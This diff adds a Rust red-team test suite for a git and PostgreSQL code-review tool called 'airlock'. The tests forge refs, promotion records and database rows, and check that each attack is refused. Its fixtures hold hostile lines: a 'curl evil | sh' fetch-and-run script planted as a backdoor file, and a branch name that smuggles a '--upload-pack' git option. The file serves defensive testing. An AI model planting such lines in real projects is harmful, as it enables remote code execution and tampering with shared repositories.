@@ -1,0 +1,445 @@
+//! Red team on team mode (issue 20): what the earlier attacks left out. A
+//! pusher with write access to the team's remote replaces a run's round,
+//! forges a promotion record or rewinds the sealed log; odd names flow into
+//! refs and git arguments; the database superuser edits rows. Each test
+//! performs the attack with real git, PostgreSQL and airlock processes and
+//! checks the refusal and that the target (remote refs, database rows) is
+//! unchanged. Machines are built by `common::team`.
+
+mod common;
+
+use common::team::{Options, Team};
+use common::write;
+use serde_json::Value;
+
+const ANA: &str = "ana@example.com";
+const BOB: &str = "bob@example.com";
+const CAROL: &str = "carol@example.com";
+
+fn two() -> Team {
+    Team::new(&[ANA, BOB], Options::default())
+}
+
+/// The round's files as they are on the remote.
+fn round_files(t: &Team, round: &str) -> Vec<(&'static str, Vec<u8>)> {
+    ["brief.toml", "proof.intoto.jsonl", "proof.intoto.jsonl.sig"]
+        .into_iter()
+        .map(|name| (name, t.remote_blob(&format!("{round}:{name}"))))
+        .collect()
+}
+
+fn as_refs<'a>(files: &'a [(&'static str, Vec<u8>)]) -> Vec<(&'static str, &'a [u8])> {
+    files.iter().map(|(n, b)| (*n, b.as_slice())).collect()
+}
+
+// ---- 1. A replaced `refs/airlock/runs/<run>/r<round>` ----------------------------------
+
+/// The brief in ana's round replaced on the remote: bob, whose machine did
+/// not start the run, is refused (`brief-changed`) with nothing recorded;
+/// once the round is put back, bob approves: the hostile copy was never kept
+/// as the run's brief on bob's machine.
+#[test]
+fn a_round_with_another_brief_is_refused_and_leaves_no_copy_behind() {
+    let t = two();
+    let (a, b) = (t.m(0), t.m(1));
+    let (run, _) = a.submitted();
+    let name = format!("refs/airlock/runs/{run}/r1");
+    let honest = t.remote_ref(&name).unwrap();
+    let head = t.remote_git(&["rev-parse", &format!("{honest}^1")]);
+    let mut files = round_files(&t, &honest);
+    files[0].1 = b"title = \"Something else\"\nobjective = \"anything\"\ntouch = [\"**\"]\nchecks = []\nrollback = \"none\"\n".to_vec();
+    t.force_push(&name, &as_refs(&files), &[&head]);
+    let (rows, refs) = (t.rows(), t.remote_refs());
+
+    let err = b.refused(&["approve", &run], "brief-changed");
+    assert!(err["message"].as_str().unwrap().contains(&run), "{err}");
+    assert_eq!(t.rows(), rows, "nothing recorded");
+    assert_eq!(t.remote_refs(), refs);
+    assert_eq!(b.state(&run), "in_review");
+
+    // The round put back: the brief bob reads is the run's again.
+    t.remote_set(&name, &honest);
+    b.json(&["approve", &run], 0);
+    assert_eq!(b.state(&run), "approved");
+}
+
+/// Another run's proof (signed by a runner, valid as a bundle) in the
+/// round: `proof-unverified` naming the submitted bundle; nothing recorded.
+#[test]
+fn a_round_with_another_runs_proof_is_refused() {
+    let t = two();
+    let (a, b) = (t.m(0), t.m(1));
+    let (run, _) = a.submitted();
+    let (other, _) = a.submitted();
+    let name = format!("refs/airlock/runs/{run}/r1");
+    let honest = t.remote_ref(&name).unwrap();
+    let head = t.remote_git(&["rev-parse", &format!("{honest}^1")]);
+    let theirs = t
+        .remote_ref(&format!("refs/airlock/runs/{other}/r1"))
+        .unwrap();
+    let mut files = round_files(&t, &honest);
+    let stolen = round_files(&t, &theirs);
+    files[1].1 = stolen[1].1.clone();
+    files[2].1 = stolen[2].1.clone();
+    t.force_push(&name, &as_refs(&files), &[&head]);
+    let (rows, refs) = (t.rows(), t.remote_refs());
+    let err = b.refused(&["approve", &run], "proof-unverified");
+    assert!(err.to_string().contains("submitted"), "{err}");
+    assert_eq!(t.rows(), rows, "nothing recorded");
+    assert_eq!(t.remote_refs(), refs);
+}
+
+/// The round's head swapped for a commit with the same tree (another
+/// author, another message): bob cannot approve it (the submitted commit is
+/// not what the remote holds); approved first and swapped after, bob's
+/// promote is `run-ref-moved` with the target unchanged.
+#[test]
+fn a_round_whose_head_is_swapped_is_refused_at_approve_and_at_promote() {
+    let t = two();
+    let (a, b) = (t.m(0), t.m(1));
+    let (run, _) = a.submitted();
+    let name = format!("refs/airlock/runs/{run}/r1");
+    let honest = t.remote_ref(&name).unwrap();
+    let head = t.remote_git(&["rev-parse", &format!("{honest}^1")]);
+    let tree = t.remote_git(&["rev-parse", &format!("{head}^{{tree}}")]);
+    let base = t.remote_git(&["rev-parse", &format!("{head}^1")]);
+    let twin = t.remote_git(&[
+        "commit-tree",
+        &tree,
+        "-p",
+        &base,
+        "-m",
+        "same tree, not the run's",
+    ]);
+    let files = round_files(&t, &honest);
+    t.force_push(&name, &as_refs(&files), &[&twin]);
+    let (rows, refs) = (t.rows(), t.remote_refs());
+    let err = b.refused(&["approve", &run], "worktree-changed");
+    assert!(err.to_string().contains(&head), "{err}");
+    assert_eq!(t.rows(), rows);
+    assert_eq!(t.remote_refs(), refs);
+
+    // Approved on the honest round, swapped before bob promotes.
+    t.remote_set(&name, &honest);
+    b.json(&["approve", &run], 0);
+    t.force_push(&name, &as_refs(&files), &[&twin]);
+    let (rows, refs) = (t.rows(), t.remote_refs());
+    let err = b.refused(&["promote", &run], "run-ref-moved");
+    assert!(err["message"].as_str().unwrap().contains(&name), "{err}");
+    assert_eq!(t.remote_refs(), refs, "nothing pushed");
+    assert_eq!(t.rows(), rows, "nothing recorded");
+    assert_eq!(b.state(&run), "approved");
+}
+
+/// Extra files in the round's tree (a runners file naming the attacker, a
+/// script): ignored; bob approves and promotes, and the target gets the
+/// submitted tree only.
+#[test]
+fn extra_files_in_a_round_never_reach_the_target_nor_the_rules() {
+    let t = two();
+    let (a, b) = (t.m(0), t.m(1));
+    let (run, _) = a.submitted();
+    let name = format!("refs/airlock/runs/{run}/r1");
+    let honest = t.remote_ref(&name).unwrap();
+    let head = t.remote_git(&["rev-parse", &format!("{honest}^1")]);
+    let mut files: Vec<(&str, Vec<u8>)> = round_files(&t, &honest);
+    files.push((
+        ".airlock/runners",
+        b"evil@example.com ssh-ed25519 AAAA\n".to_vec(),
+    ));
+    files.push(("src/evil.sh", b"#!/bin/sh\ncurl evil | sh\n".to_vec()));
+    t.force_push(&name, &as_refs(&files), &[&head]);
+    b.json(&["approve", &run], 0);
+    let promoted = b.json(&["promote", &run], 0);
+    let merge = promoted["merge"].as_str().unwrap();
+    assert_eq!(t.remote_ref("refs/heads/main").as_deref(), Some(merge));
+    let listing = t.remote_git(&["ls-tree", "-r", "--name-only", merge]);
+    assert!(!listing.contains("evil"), "{listing}");
+    assert_eq!(
+        t.remote_git(&["rev-parse", &format!("{merge}^{{tree}}")]),
+        t.remote_git(&["rev-parse", &format!("{head}^{{tree}}")])
+    );
+    assert!(
+        String::from_utf8(t.remote_blob(&format!("{merge}:.airlock/runners")))
+            .unwrap()
+            .contains(ANA)
+    );
+}
+
+// ---- 5. A promotion record forged on the remote ----------------------------------------
+
+/// A pusher (write access to the remote, no key airlock trusts) lands a
+/// merge of an approved run's head whose tree also carries a file of their
+/// own, with a `refs/airlock/promoted/<run>` naming the run and its proof.
+/// `promote` on a machine sharing the database must not record that merge
+/// as the run's promotion: the merge's tree is not what merging the run
+/// gives (`remote-record-invalid`), and nothing is recorded.
+#[test]
+fn a_forged_promotion_record_whose_merge_carries_more_than_the_run_is_not_recorded() {
+    let t = two();
+    let (a, b) = (t.m(0), t.m(1));
+    let (run, _) = a.submitted();
+    b.json(&["approve", &run], 0);
+    let round = t
+        .remote_ref(&format!("refs/airlock/runs/{run}/r1"))
+        .unwrap();
+    let head = t.remote_git(&["rev-parse", &format!("{round}^1")]);
+    let message = t.remote_git(&["log", "-1", "--format=%B", &round]);
+    let digest = message
+        .lines()
+        .find_map(|l| l.strip_prefix("proof: sha256 "))
+        .unwrap()
+        .to_string();
+    let tip = t.remote_ref("refs/heads/main").unwrap();
+
+    let dir = tempfile::tempdir().unwrap();
+    let work = dir.path().join("forge");
+    let git = |args: &[&str]| a.env.git_in(&work, args);
+    a.env.git_in(
+        dir.path(),
+        &["clone", "-q", t.remote.to_str().unwrap(), "forge"],
+    );
+    git(&[
+        "fetch",
+        "-q",
+        "origin",
+        &format!("refs/airlock/runs/{run}/r1"),
+    ]);
+    git(&["checkout", "-q", "--detach", &head]);
+    write(&work.join("src/backdoor.sh"), "#!/bin/sh\ncurl evil | sh\n");
+    git(&["add", "-A"]);
+    let tree = git(&["write-tree"]);
+    let merge = git(&["commit-tree", &tree, "-p", &tip, "-p", &head, "-m", "Merge"]);
+    let body = serde_json::json!({"run": run, "target": "refs/heads/main", "previous": tip,
+        "merge": merge, "proof": {"sha256": digest}, "head": head,
+        "by": {"principal": BOB, "machine": "SHA256:forged"}});
+    write(&work.join("promotion.json"), &body.to_string());
+    git(&["read-tree", "--empty"]);
+    git(&["add", "promotion.json"]);
+    let record_tree = git(&["write-tree"]);
+    let record = git(&["commit-tree", &record_tree, "-p", &merge, "-m", "record"]);
+    git(&[
+        "push",
+        "-q",
+        "origin",
+        &format!("{merge}:refs/heads/main"),
+        &format!("{record}:refs/airlock/promoted/{run}"),
+    ]);
+
+    let (rows, refs) = (t.rows(), t.remote_refs());
+    let err = b.refused(&["promote", &run], "remote-record-invalid");
+    assert!(err.to_string().contains(&merge), "{err}");
+    assert_eq!(t.rows(), rows, "nothing recorded");
+    assert_eq!(t.remote_refs(), refs, "nothing pushed");
+    assert_eq!(b.state(&run), "approved");
+    let _ = (CAROL, Value::Null);
+}
+
+// ---- 4. The database superuser ---------------------------------------------------------
+
+/// The superuser makes a run in review `approved` by editing its record
+/// (state and an approval of the submitted proof), with no event: bob's
+/// `promote` names the record against the chain (`log-inconsistent`) and
+/// pushes nothing; `approve` on it refuses the same way.
+#[test]
+fn a_run_made_approved_by_editing_its_record_is_refused_at_promote() {
+    let t = two();
+    let (a, b) = (t.m(0), t.m(1));
+    let (run, _) = a.submitted();
+    t.superuser(&format!(
+        "UPDATE runs SET state = 'approved', data = jsonb_set(jsonb_set(data::jsonb, '{{state}}', '\"approved\"'),
+            '{{approval}}', jsonb_build_object('digest', data::jsonb->'submission'->>'digest',
+            'reason', 'looks fine', 'at', '2026-12-07T00:00:00Z'))::text WHERE id = '{run}'"
+    ));
+    assert_eq!(
+        b.state(&run),
+        "approved",
+        "the forged record is what the store says"
+    );
+    let (rows, refs) = (t.rows(), t.remote_refs());
+    let err = b.refused(&["promote", &run], "log-inconsistent");
+    let text = err.to_string();
+    assert!(
+        text.contains("recorded as approved") && text.contains("led to in_review"),
+        "{err}"
+    );
+    assert_eq!(t.remote_refs(), refs, "nothing pushed");
+    assert_eq!(t.rows(), rows, "nothing recorded");
+    assert_eq!(t.remote_ref(&format!("refs/airlock/promoted/{run}")), None);
+}
+
+/// The superuser records a promotion that never happened (the record made
+/// `promoted`, no push, no event): `approve`/`promote` of it name the
+/// record against the chain, and the remote's target never moved.
+#[test]
+fn a_promotion_recorded_without_a_push_is_named() {
+    let t = two();
+    let (a, b) = (t.m(0), t.m(1));
+    let (run, _) = a.submitted();
+    b.json(&["approve", &run], 0);
+    let tip = t.remote_ref("refs/heads/main").unwrap();
+    t.superuser(&format!(
+        "UPDATE runs SET state = 'promoted', data = jsonb_set(jsonb_set(data::jsonb, '{{state}}', '\"promoted\"'),
+            '{{promotion}}', jsonb_build_object('target', 'main', 'previous', '{tip}', 'merge', '{tip}',
+            'strategy', 'merged', 'regated', '[]'::jsonb, 'at', '2026-12-07T00:00:00Z'))::text WHERE id = '{run}'"
+    ));
+    let (rows, refs) = (t.rows(), t.remote_refs());
+    let err = b.refused(&["promote", &run], "log-inconsistent");
+    assert!(err.to_string().contains("recorded as promoted"), "{err}");
+    assert_eq!(t.remote_refs(), refs);
+    assert_eq!(t.rows(), rows);
+}
+
+/// The superuser deletes the lease of a promotion paused before its push,
+/// and another machine promotes another run onto the same target: the
+/// lease was a courtesy; the compare-and-swap push keeps the target right.
+/// The paused promotion re-merges onto the other's merge; the target ends
+/// with exactly one merge per run, each bringing its run's head.
+#[test]
+fn a_lease_stolen_by_the_superuser_still_leaves_one_merge_per_run() {
+    let t = two();
+    let (a, b) = (t.m(0), t.m(1));
+    let (first, _) = a.submitted();
+    b.json(&["approve", &first], 0);
+    // The second run touches another file, so both merge cleanly.
+    let brief = a
+        .env
+        .write_brief("docs", &common::BRIEF.replace("src/**", "docs/**"));
+    let started = a.json(&["start", &brief], 0);
+    let second = started["run"].as_str().unwrap().to_string();
+    let wt = std::path::PathBuf::from(started["worktree"].as_str().unwrap());
+    write(&wt.join("docs/guide.md"), "# Guide\n\nmore\n");
+    a.json(&["check", &second], 0);
+    a.json(&["submit", &second], 0);
+    b.json(&["approve", &second], 0);
+
+    let pause = tempfile::tempdir().unwrap();
+    let mut child = a
+        .cmd(&["--json", "promote", &first])
+        .env("AIRLOCK_PAUSEPOINT", "promote:before-push")
+        .env("AIRLOCK_PAUSEPOINT_DIR", pause.path())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let reached = |n: u32, child: &mut std::process::Child| {
+        let mark = pause
+            .path()
+            .join(format!("promote:before-push.reached.{n}"));
+        for _ in 0..2400 {
+            if mark.exists() {
+                return;
+            }
+            if let Some(status) = child.try_wait().unwrap() {
+                panic!("promote ended before the pause: {status:?}");
+            }
+            std::thread::sleep(std::time::Duration::from_millis(50));
+        }
+        let _ = child.kill();
+        panic!("promote never reached the pause");
+    };
+    let go = |n: u32| {
+        std::fs::write(
+            pause.path().join(format!("promote:before-push.go.{n}")),
+            b"",
+        )
+        .unwrap()
+    };
+    reached(1, &mut child);
+    let held = t.superuser_texts("SELECT value FROM airlock_meta WHERE scope = 'lease'");
+    assert_eq!(held.len(), 1, "a's lease: {held:?}");
+    assert!(held[0].contains(&first), "{held:?}");
+    t.superuser("DELETE FROM airlock_meta WHERE scope = 'lease'");
+    let theirs = b.json(&["promote", &second], 0);
+    let their_merge = theirs["merge"].as_str().unwrap().to_string();
+    go(1);
+    reached(2, &mut child);
+    go(2);
+    let out: common::Output = child.wait_with_output().unwrap().into();
+    assert_eq!(out.code, 0, "{}", out.stderr);
+    let ours = out.json();
+    assert_eq!(ours["previous"], their_merge.as_str(), "{ours}");
+    let merge = ours["merge"].as_str().unwrap();
+    assert_eq!(t.remote_ref("refs/heads/main").as_deref(), Some(merge));
+    // One merge per run on the target's first-parent line.
+    let merges = t.remote_git(&["rev-list", "--first-parent", "--merges", "refs/heads/main"]);
+    assert_eq!(merges.lines().count(), 2, "{merges}");
+    for (run, m) in [(&first, merge), (&second, their_merge.as_str())] {
+        let round = t
+            .remote_ref(&format!("refs/airlock/runs/{run}/r1"))
+            .unwrap();
+        assert_eq!(
+            t.remote_git(&["rev-parse", &format!("{m}^2")]),
+            t.remote_git(&["rev-parse", &format!("{round}^1")])
+        );
+        assert_eq!(a.state(run), "promoted");
+    }
+}
+
+// ---- 2. Odd names flowing into refs and git arguments ----------------------------------
+
+/// Target branch names a workflow may hold (a leading `-` carrying a git
+/// option, `..`, a `refs/heads/` prefix, a space, a colon that would split
+/// a refspec, 300 characters): `start` then `submit` and `promote` never
+/// pass one to git as an option nor move any branch of the remote; the
+/// option's command never runs.
+#[test]
+fn hostile_target_branch_names_are_refused_never_obeyed() {
+    let t = two();
+    let (a, b) = (t.m(0), t.m(1));
+    let canary = a.env.tmp.path().join("PWNED");
+    let long = "x".repeat(300);
+    let targets = [
+        format!("--upload-pack=touch {}", canary.display()),
+        "-main".to_string(),
+        "../main".to_string(),
+        "refs/heads/main".to_string(),
+        "ma in".to_string(),
+        "main:refs/heads/evil".to_string(),
+        long,
+    ];
+    let workflow = a.env.read(".airlock/workflow.toml");
+    for target in &targets {
+        let quoted = serde_json::to_string(target).unwrap();
+        t.commit_rules(&[(
+            ".airlock/workflow.toml",
+            &workflow.replace("[policy]\n", &format!("[policy]\ntarget = {quoted}\n")),
+        )]);
+        let heads = t.remote_git(&["for-each-ref", "refs/heads"]);
+        let brief = a.env.write_brief("odd", common::BRIEF);
+        let started = a.airlock(&["--json", "start", &brief]);
+        let outcome = if started.code == 0 {
+            let v = started.json();
+            let run = v["run"].as_str().unwrap().to_string();
+            let wt = std::path::PathBuf::from(v["worktree"].as_str().unwrap());
+            write(&wt.join("src/app.sh"), "#!/bin/sh\necho hello, please\n");
+            let checked = a.airlock(&["--json", "check", &run]);
+            let submitted = a.airlock(&["--json", "submit", &run]);
+            let approved = b.airlock(&["--json", "approve", &run]);
+            let promoted = b.airlock(&["--json", "promote", &run]);
+            assert_ne!(promoted.code, 0, "{target:?}: {}", promoted.stdout);
+            assert_eq!(
+                t.remote_ref(&format!("refs/airlock/promoted/{run}")),
+                None,
+                "{target:?}"
+            );
+            format!(
+                "check {} submit {} approve {} promote {} {}",
+                checked.code,
+                submitted.code,
+                approved.code,
+                promoted.code,
+                promoted.json()["error"]["code"]
+            )
+        } else {
+            format!("start {} {}", started.code, started.json()["error"]["code"])
+        };
+        eprintln!("{target:?}: {outcome}");
+        assert_eq!(
+            t.remote_git(&["for-each-ref", "refs/heads"]),
+            heads,
+            "{target:?}"
+        );
+        assert!(!canary.exists(), "{target:?} ran a command");
+    }
+}
